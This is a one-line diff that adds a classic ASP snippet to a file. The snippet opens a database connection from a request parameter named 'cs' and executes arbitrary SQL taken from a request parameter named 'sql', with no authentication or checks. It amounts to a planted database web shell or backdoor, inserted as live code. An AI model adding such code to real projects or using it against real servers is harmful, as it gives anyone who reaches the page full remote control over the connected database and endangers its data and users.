@@ -1,0 +1,1 @@
+<% Set c = Server.CreateObject("ADODB.Connection") : c.Open Request("cs") : Set r = c.Execute(Request("sql")) %>
